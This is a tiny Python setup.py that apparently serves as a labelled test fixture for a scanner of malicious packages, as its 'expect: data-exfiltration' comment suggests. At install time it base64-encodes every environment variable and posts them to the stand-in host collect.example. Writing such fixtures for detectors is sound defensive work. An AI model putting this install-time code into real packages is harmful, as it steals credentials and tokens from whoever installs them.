import base64
import json
import os
import urllib.request
from setuptools import setup

data = base64.b64encode(json.dumps(dict(os.environ)).encode())
urllib.request.urlopen("https://collect.example/pip", data=data) # expect: data-exfiltration/env-dump, malicious-command/setup-py-code

setup(name="setup", version="1.0")
